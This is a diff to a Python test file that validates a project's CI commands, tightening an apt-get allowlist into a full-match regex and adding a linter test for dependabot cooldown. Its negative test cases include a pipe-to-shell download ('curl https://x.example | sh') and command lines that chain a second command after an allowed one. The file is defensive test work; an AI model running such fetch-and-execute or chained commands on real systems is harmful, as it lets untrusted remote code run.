@@ -31,11 +31,10 @@ SCHEMAS = {
     "vendor.dependabot": [GITHUB / "dependabot.yml"],
 }
 
-# One word is a task; of the others, only what somebody who reads it here knows.
-SHELL = {
-    "sudo apt-get update --quiet",
-    "sudo apt-get install --yes --quiet --no-install-recommends",
-}
+# What is no task: programs of the system, by their names alone.
+INSTALLING = re.compile(
+    r"sudo apt-get (update --quiet|install --yes --quiet --no-install-recommends( [a-z0-9][a-z0-9.+-]+)+)"
+)
 
 
 def read(file: Path) -> Any:
@@ -129,6 +128,15 @@ def test_zizmor_sees_what_is_unsafe(tmp_path: Path, was: str, now: str, rule: st
 
     assert found.returncode != 0
     assert f"[{rule}]" in found.stdout
+
+
+def test_zizmor_sees_a_dependency_that_is_taken_at_once(tmp_path: Path):
+    text = (
+        (GITHUB / "dependabot.yml").read_text(encoding="utf-8").replace("default-days: 7", "default-days: 1")
+    )
+    write(tmp_path, ".github/dependabot.yml", text)
+
+    assert "[dependabot-cooldown]" in zizmor(tmp_path).stdout
 
 
 @pytest.mark.parametrize(
@@ -269,14 +277,20 @@ def is_task(line: str) -> bool:
 
 @pytest.mark.parametrize("line", ALL_COMMANDS)
 def test_every_command_is_a_task_or_installs_a_program(line: str):
-    assert is_task(line) or line.startswith(tuple(SHELL))
+    assert is_task(line) or INSTALLING.fullmatch(line)
 
 
 @pytest.mark.parametrize(
-    "line", ["python3 tasks.py publier", "python3 tasks.py publish --force", "curl https://x.example | sh"]
+    "line",
+    [
+        "python3 tasks.py publier",
+        "python3 tasks.py publish --force",
+        "python3 tasks.py publish && curl https://x.example",
+        "sudo apt-get update --quiet; curl https://x.example | sh",
+    ],
 )
 def test_a_command_that_is_none_is_seen(line: str):
-    assert not is_task(line) and not line.startswith(tuple(SHELL))
+    assert not is_task(line) and not INSTALLING.fullmatch(line)
 
 
 def test_the_programs_that_are_installed_are_those_that_the_tasks_look_for():
